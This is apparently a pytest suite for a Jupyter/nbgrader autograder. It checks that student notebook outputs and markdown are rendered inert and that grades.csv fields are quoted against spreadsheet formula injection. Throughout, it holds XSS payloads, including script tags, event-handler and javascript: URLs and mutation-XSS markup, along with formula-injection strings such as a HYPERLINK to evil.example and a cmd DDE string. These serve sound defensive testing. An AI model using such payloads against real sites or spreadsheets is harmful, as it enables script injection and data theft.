"""Nothing a student hands in is active content in any view (issue 16): outputs and markdown made inert by
graders.classroom.inert_outputs.InertOutputs, student ids that are plain words, grades.csv fields no
spreadsheet
evaluates. End to end, a class with a student whose notebook displays script payloads is graded; no page
the course serves carries one, and nbgrader's formgrader shows that submission in headless Chromium
without running any of it.
"""

import copy
import csv
import html
import json
import os
import secrets
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from class_fixture import CELL_TIMEOUT, NOTEBOOK, Pupil, student_notebook, write_submissions
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.api import Gradebook
from test_jupyterlab import stop, wait_for_server
from test_sandbox import sandbox_or_skip

from graders.__main__ import main
from graders.classroom.course import solution_notebooks
from graders.classroom.grade_class import grade_class
from graders.classroom.gradebook import run_nbgrader
from graders.classroom.inert_outputs import InertOutputs
from graders.classroom.report_rows import neutral
from graders.classroom.roster import Student
from graders.classroom.sandbox import Limits

# Every test here grades through nbgrader and serves formgrader.
pytestmark = pytest.mark.slow

# Every payload names this word, so whatever of it is left can be found, in a file or in a page.
PWNED = "pwned"
# A 1×1 PNG: images must survive as images.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
INERT_TYPES = {"text/plain", "image/png", "image/jpeg"}
SCRIPT = f"window.__{PWNED} = (window.__{PWNED} || []).concat(['%s']); document.title = '{PWNED}'"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT % "svg-onload"}">'
    f"<script>{SCRIPT % 'svg-script'}</script><circle r='4'/></svg>"
)
MARKDOWN_PAYLOAD = (
    "Honest markdown words.\n\n"
    f"<script>{SCRIPT % 'md-script'}</script>\n\n"
    f'<img src="x" onerror="{SCRIPT % "md-onerror"}">\n'
    f'<a href="javascript:{SCRIPT % "md-href"}">a link</a>\n\n'
    f'<iframe srcdoc="<script>parent.__{PWNED} = 1</script>"></iframe>'
    f"<style>body {{ background: url('/{PWNED}-style') }}</style>"
    f'<object data="/{PWNED}-object"></object><embed src="/{PWNED}-embed">\n\n'
    f"[another link](javascript:window.__{PWNED}=1)\n"
)


PLOT = "A plot: ![plot](attachment:plot.png)"
PAGE = "A page: ![page](attachment:page.svg)"


class ActiveContent(HTMLParser):
    """What in an HTML page could run or load a student's content: scripts that are not data, event
    handler attributes, javascript: and data:text/html URLs, frames, plugins and style sheets."""

    FRAMES = {"iframe", "frame", "object", "embed", "applet", "base"}
    DATA_SCRIPTS = {"application/json", "application/vnd.jupyter.widget-state+json"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._element = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        shown = " ".join(f"{name}={value}" for name, value in attrs)
        values = {name: (value or "").strip().lower() for name, value in attrs}
        if (
            tag in self.FRAMES
            or any(name.startswith("on") for name in values)
            or any(value.startswith(("javascript:", "data:text/html")) for value in values.values())
        ):
            self.found.append(f"<{tag} {shown}>")
        running = tag == "script" and values.get("type", "text/javascript") not in self.DATA_SCRIPTS
        self._element = tag if running or tag == "style" else ""

    def handle_data(self, data: str) -> None:
        if self._element:
            self.found.append(f"<{self._element}>{data}")

    def handle_endtag(self, tag: str) -> None:
        self._element = ""


def student_payloads(html: str) -> list[str]:
    """The active content of a page that comes from a student: it names the payloads' word."""
    parser = ActiveContent()
    parser.feed(html)
    return [found for found in parser.found if PWNED in found.lower() or found.startswith("<iframe")]


def rendered(nb: nbformat.NotebookNode) -> str:
    """The notebook as nbconvert renders it to HTML (formgrader's template extends the classic one)."""
    html, _ = HTMLExporter(template_name="classic").from_notebook_node(nb)
    return html


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> nbformat.NotebookNode:
    return new_output("display_data", data=data, metadata=metadata or {})


def hostile_outputs() -> list[nbformat.NotebookNode]:
    """What a kernel can leave: every kind of active output, and honest text and images beside them."""
    return [
        display(
            {"text/html": f"<script>{SCRIPT % 'html-script'}</script>", "text/plain": "honest html repr"}
        ),
        display({"text/html": f'<img src="x" onerror="{SCRIPT % "html-onerror"}">'}),
        display({"application/javascript": SCRIPT % "javascript"}),
        display({"text/markdown": f'<img src="x" onerror="{SCRIPT % "markdown"}">', "text/plain": "md repr"}),
        display(
            {"text/latex": rf"$\href{{javascript:{SCRIPT % 'latex'}}}{{x}}$", "text/plain": "latex repr"}
        ),
        display({"image/svg+xml": SVG}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2}}),
        display(
            {"image/png": PNG, "text/plain": "a figure"}, {"image/png": {"width": 4, "height": "4 onerror=x"}}
        ),
        display({"image/png": f"{PWNED}<script>"}),
        new_output(
            "stream", name=f'stdout"><script>{SCRIPT % "stream-name"}</script>', text="honest print\n"
        ),
        new_output("error", ename="ValueError", evalue="<b>honest error</b>", traceback=["ValueError: no"]),
        new_output(
            "execute_result",
            data={"text/html": "<i>x</i>", "text/plain": "42"},
            metadata={},
            execution_count=3,
        ),
    ]


def hostile_notebook() -> nbformat.NotebookNode:
    nb = new_notebook(
        cells=[
            new_code_cell("show()", outputs=hostile_outputs(), execution_count=3),
            new_markdown_cell(MARKDOWN_PAYLOAD),
            new_markdown_cell(
                PLOT,
                attachments={
                    "plot.png": {"image/png": PNG},
                    "page.svg": {"image/svg+xml": SVG},
                    "page.html": {"text/html": f"<script>{SCRIPT % 'attachment'}</script>"},
                },
            ),
            # The SVG is dropped, and nbconvert fails on a page whose markdown shows a missing attachment.
            new_markdown_cell(PAGE, attachments={"page.svg": {"image/svg+xml": SVG}}),
        ]
    )
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"1": {"html": f"<img onerror='{PWNED}'>"}}}
    }
    return nb


def made_inert(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    inert, _ = InertOutputs().preprocess(copy.deepcopy(nb), {})
    return inert


def test_only_text_and_png_jpeg_outputs_remain_each_with_its_honest_text() -> None:
    before = hostile_notebook()
    inert = made_inert(before).cells[0]
    kept = [output for output in inert.outputs if "data" in output]
    assert all(set(output.data) <= INERT_TYPES for output in kept)
    plain = [output.data.get("text/plain", "") for output in kept]
    assert [plain[0], plain[3], plain[4]] == ["honest html repr", "md repr", "latex repr"]
    # With no text/plain form, a note names what was removed.
    for index, removed in [
        (1, "text/html"),
        (2, "application/javascript"),
        (5, "image/svg+xml"),
        (8, "image/png"),
    ]:
        assert plain[index].startswith("[removed: ") and removed in plain[index], plain[index]
    assert "application/vnd.jupyter.widget-view+json" in plain[6]
    assert kept[7].data == {"image/png": PNG, "text/plain": "a figure"}
    assert kept[7].metadata == {"image/png": {"width": 4}}
    stream, error, result = inert.outputs[-3:]
    assert (stream.name, stream.text) == ("stdout", "honest print\n")
    assert (error.ename, error.evalue, error.traceback) == (
        "ValueError",
        "<b>honest error</b>",
        ["ValueError: no"],
    )
    assert (result.data, result.execution_count) == ({"text/plain": "42"}, 3)
    assert not any(PWNED in json.dumps(output) for output in inert.outputs)


def test_nothing_active_is_left_when_nbconvert_renders_the_notebook() -> None:
    before = hostile_notebook()
    assert student_payloads(rendered(before))  # the payloads are live without the preprocessor
    html = rendered(made_inert(before))
    assert student_payloads(html) == []
    for honest in ["honest html repr", "honest print", "Honest markdown words.", "a link", "data:image/png"]:
        assert honest in html, honest


def test_markdown_html_is_sanitized_and_only_png_jpeg_attachments_stay() -> None:
    inert = made_inert(hostile_notebook())
    payload, plot, page = inert.cells[1:]
    assert "Honest markdown words." in payload.source and "a link" in payload.source
    for gone in ["<script", "onerror", "javascript:", "<iframe", "<style", "<object", "<embed"]:
        assert gone not in payload.source, gone
    assert (plot.source, plot.attachments) == (
        PLOT,
        {"plot.png": {"image/png": PNG}},
    )
    assert "attachments" not in page and PAGE in page.source
    html = rendered(inert)
    assert f"data:image/png;base64,{PNG}" in html and "data:image/svg+xml" not in html
    assert "widgets" not in inert.metadata


# Markup that parsers read differently, each running `pwned` in a browser if it survived.
TRICKY_MARKDOWN = [
    "<img/src=x/onerror=pwned()>",
    "<!--><img src=x onerror=pwned()>-->",
    '<a href="jav&#x09;ascript:pwned()">x</a>',
    "<a href=javascript&colon;pwned()>x</a>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<div title="a"onclick="pwned()">x</div>',
    '<img src="x" onerror\n=pwned()>',
    "<details open ontoggle=pwned()>",
    "<form><button formaction=javascript:pwned()>x",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "```mermaid\ngraph TD\nA[pwned] --> B\n```",
    "$\\unicode{<img src=x onerror=pwned()>}$",
]


@pytest.mark.parametrize("markdown", TRICKY_MARKDOWN)
def test_tricky_markdown_renders_nothing_active(markdown: str) -> None:
    nb = new_notebook(cells=[new_markdown_cell(markdown)])
    assert student_payloads(rendered(made_inert(nb))) == []
    assert 'class="mermaid"' not in rendered(made_inert(nb))


FORMULAS_THAT_LINK_OR_STYLE = ["$\\href{javascript:pwned()}{x}$", "$$\\class{x}{\\style{color:red}{y}}$$"]


@pytest.mark.parametrize("formula", FORMULAS_THAT_LINK_OR_STYLE)
def test_a_formula_that_would_link_or_style_is_shown_as_text(formula: str) -> None:
    # MathJax skips <pre>: the formula is shown as the student typed it, escaped, and never typeset.
    source = f"See {formula} here."
    assert InertOutputs().inert_markdown(source) == f"<div>\n<pre>{html.escape(source)}</pre>\n</div>"


def test_every_markdown_cell_of_the_course_passes_unchanged() -> None:
    preprocessor = InertOutputs()
    for path in solution_notebooks():
        for index, cell in enumerate(nbformat.read(path, as_version=4).cells):
            if cell.cell_type == "markdown":
                inert, _ = preprocessor.preprocess_cell(copy.deepcopy(cell), {}, index)
                assert inert.source.encode() == cell.source.encode(), (path.name, index)


def test_a_raw_cell_stays_as_nbconvert_cleans_it() -> None:
    """nbconvert cleans raw cells itself (bleach): the check that the page shows no script from one."""
    nb = new_notebook(cells=[new_raw_cell(f"<script>{SCRIPT % 'raw'}</script><b>raw words</b>")])
    html = rendered(made_inert(nb))
    assert student_payloads(html) == [] and "raw words" in html


# Ids a spreadsheet would evaluate; every one is refused as a student id (not a plain word).
FORMULA_IDS = ["=1+2", "+SUM(1,2)", "@SUM(1,2)", "-2+3", '=HYPERLINK("evil.example?"&A1,"click")']


@pytest.mark.parametrize("field", [*FORMULA_IDS, "\t=1+2", "\r=1+2"])
def test_a_field_that_starts_like_a_formula_gets_a_leading_quote(field: str) -> None:
    assert neutral(field) == "'" + field


@pytest.mark.parametrize("field", ["ada", "zoë_o-brien@uni.example", "7", "", "score: -1", "a=b"])
def test_other_fields_are_left_as_they_are(field: str) -> None:
    assert neutral(field) == field


def csv_fields(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def test_the_fast_path_refuses_formula_ids_and_quotes_formula_names(tmp_path: Path) -> None:
    submissions = tmp_path / "answers"
    for student in FORMULA_IDS:
        (submissions / student / NOTEBOOK).mkdir(parents=True)
    roster = tmp_path / "roster.csv"
    roster.write_text("id,first_name,last_name\nada,=cmd|' /C calc'!A0,@SUM(1+1)\n", encoding="utf-8")
    out = tmp_path / "grades.csv"
    main(["grade", str(submissions), "--notebook", NOTEBOOK, "--roster", str(roster), "--out", str(out)])
    header, *rows = csv_fields(out)
    by_id = {row[header.index("student_id")]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_id) == {"ada"}  # a folder named like a formula is no student id: refused, no row
    assert (by_id["ada"]["first_name"], by_id["ada"]["last_name"]) == ("'=cmd|' /C calc'!A0", "'@SUM(1+1)")
    assert not [field for row in rows for field in row if field.startswith(("=", "+", "-", "@", "\t", "\r"))]


@dataclass(frozen=True)
class HostileClass:
    course: Path
    report: str
    grades: Path


MALLORY = "mallory"


def shown(display_class: str, payload: str) -> str:
    """A line of the payload cell: display(Class('payload'))."""
    return f"display({display_class}({payload!r}))\n"


HTML_PAYLOAD = f"<script>{SCRIPT % 'html'}; fetch('/{PWNED}-html')</script>"
PAYLOAD_CELL = (
    "import ipywidgets\nfrom IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n\n"
    "print('honest stdout words')\n"
    f"display({{'text/plain': 'honest plain repr', 'text/html': {HTML_PAYLOAD!r}}}, raw=True)\n"
    + shown("HTML", f'<img src="x" onerror="{SCRIPT % "onerror"}; fetch(\'/{PWNED}-img\')">')
    + shown("Javascript", f"{SCRIPT % 'javascript'}; fetch('/{PWNED}-js')")
    + shown("Markdown", f'<img src="x" onerror="{SCRIPT % "markdown"}">')
    + shown("Latex", rf"$\href{{javascript:{SCRIPT % 'latex'}}}{{x}}$")
    + shown("SVG", SVG)
    + shown("ipywidgets.HTML", f'<img src="x" onerror="{SCRIPT % "widget"}">')
)


def mallory_notebook() -> nbformat.NotebookNode:
    """A correct submission that also displays every payload, with raw HTML in a markdown and a raw cell."""
    nb = student_notebook(NOTEBOOK)
    nb.cells[1:1] = [
        new_code_cell(PAYLOAD_CELL),
        new_markdown_cell(MARKDOWN_PAYLOAD),
        new_raw_cell(f"<script>{SCRIPT % 'raw'}</script>raw cell words"),
    ]
    return nb


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory: pytest.TempPathFactory) -> HostileClass:
    """ada (honest, with formula names on the roster), mallory (payloads) and a formula id, graded."""
    sandbox_or_skip()
    root = tmp_path_factory.mktemp("inert")
    submissions = write_submissions(root / "submissions", [Pupil("ada", 7), Pupil(MALLORY, 7), Pupil("x", 7)])
    os.rename(submissions / "x", submissions / "=1+2")
    nbformat.write(mallory_notebook(), submissions / MALLORY / NOTEBOOK / f"{NOTEBOOK}.ipynb")
    roster = {"ada": Student("ada", '=HYPERLINK("evil.example")', "+SUM(1,2)", "@ada.example")}
    roster[MALLORY] = Student(MALLORY)
    course = root / "course"
    report = grade_class(submissions, course, roster, jobs=2, limits=Limits(CELL_TIMEOUT))
    return HostileClass(course, report.report_txt.read_text(encoding="utf-8"), report.grades_csv)


def quoted_rows(grades: Path) -> dict[str, dict[str, str]]:
    """grades.csv by student id, after checking that no field starts like a formula."""
    header, *rows = csv_fields(grades)
    assert not [field for row in rows for field in row if field.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return {row[header.index("student_id")]: dict(zip(header, row, strict=True)) for row in rows}


def test_the_class_is_graded_and_formula_fields_are_quoted(hostile_class: HostileClass) -> None:
    by_id = quoted_rows(hostile_class.grades)
    assert {student: float(row["score"]) for student, row in by_id.items()} == {"ada": 7, MALLORY: 7}
    ada = by_id["ada"]
    assert (ada["first_name"], ada["last_name"], ada["email"]) == (
        '\'=HYPERLINK("evil.example")',
        "'+SUM(1,2)",
        "'@ada.example",
    )
    assert (ada["audit"], by_id[MALLORY]["audit"]) == ("", "")
    problems = [line.strip() for line in hostile_class.report.splitlines() if " / " in line]
    assert len(problems) == 1 and problems[0].startswith("=1+2 / -: not graded: the folder name"), problems
    assert "an id is letters, digits and ._@- only" in problems[0]


def test_nbgraders_export_plugin_quotes_them_too(hostile_class: HostileClass, tmp_path: Path) -> None:
    out = tmp_path / "exported.csv"
    run_nbgrader(
        ["export", "--exporter=graders.classroom.plugins.AuditedExport", f"--to={out}"],
        hostile_class.course,
        tmp_path / "log",
    )
    assert quoted_rows(out) == quoted_rows(hostile_class.grades)


def test_no_file_the_course_serves_holds_an_active_payload(hostile_class: HostileClass) -> None:
    graded = hostile_class.course / "autograded" / MALLORY / NOTEBOOK / f"{NOTEBOOK}.ipynb"
    nb = nbformat.read(graded, as_version=4)
    outputs = [output for cell in nb.cells if cell.cell_type == "code" for output in cell.outputs]
    assert all(set(output.get("data", {})) <= INERT_TYPES for output in outputs)
    assert "widgets" not in nb.metadata
    shown = json.dumps(outputs)
    assert "honest stdout words" in shown and "honest plain repr" in shown
    feedback = hostile_class.course / "feedback" / MALLORY / NOTEBOOK / f"{NOTEBOOK}.html"
    assert feedback.is_file()
    pages = sorted(hostile_class.course.rglob("*.html"))
    assert feedback in pages
    for page in pages:
        assert student_payloads(page.read_text(encoding="utf-8")) == [], page
    assert student_payloads(rendered(nb)) == []
    assert "honest plain repr" in feedback.read_text(encoding="utf-8")


@dataclass(frozen=True)
class Formgrader:
    url: str
    token: str


@pytest.fixture(scope="module")
def formgrader(hostile_class: HostileClass, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Formgrader]:
    """nbgrader's formgrader on the graded course: a Jupyter server with token auth on 127.0.0.1."""
    base = tmp_path_factory.mktemp("formgrader")
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("JUPYTER", "IPYTHON", "GRADERS_")) and key != "PYTHONSTARTUP"
    }
    env |= {
        "JUPYTER_CONFIG_DIR": str(base / "config"),
        "JUPYTER_DATA_DIR": str(base / "data"),
        "JUPYTER_RUNTIME_DIR": str(base / "runtime"),
        "IPYTHONDIR": str(base / "ipython"),
    }
    token = secrets.token_hex(16)
    log = base / "server.log"
    with log.open("wb") as log_file:
        server = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "jupyter",
                "server",
                "--no-browser",
                "--ServerApp.ip=127.0.0.1",
                "--ServerApp.port=0",
                f"--IdentityProvider.token={token}",
                f"--ServerApp.root_dir={hostile_class.course}",
                "--ServerApp.allow_root=True",  # CI containers run as root
                f"--Exchange.root={base / 'exchange'}",
            ],
            cwd=hostile_class.course,  # formgrader reads the course's nbgrader_config.py there
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=log_file,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
    try:
        yield Formgrader(wait_for_server(server, base / "runtime", token, log), token)
    finally:
        stop(server)


def test_formgrader_shows_the_payload_submission_and_runs_none_of_it(
    hostile_class: HostileClass, formgrader: Formgrader, browser: Any
) -> None:
    db_url = f"sqlite:///{hostile_class.course / 'gradebook.db'}"
    with Gradebook(db_url, "default_course") as gradebook:
        submission = gradebook.find_submission_notebook(NOTEBOOK, NOTEBOOK, MALLORY).id
    page = browser.new_page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    try:
        page.goto(f"{formgrader.url}formgrader?token={formgrader.token}", wait_until="load")
        response = page.goto(
            f"{formgrader.url}formgrader/submissions/{submission}/?index=0", wait_until="load"
        )
        assert response is not None and response.status == 200
        text = page.inner_text("#notebook")
        ran = page.evaluate(f"() => [window.__{PWNED} ?? null, document.title]")
    finally:
        page.close()
    for honest in ["honest stdout words", "honest plain repr", "Honest markdown words.", "raw cell words"]:
        assert honest in text, honest
    assert ran[0] is None and PWNED not in ran[1], ran
    assert [url for url in requested if PWNED in url] == []
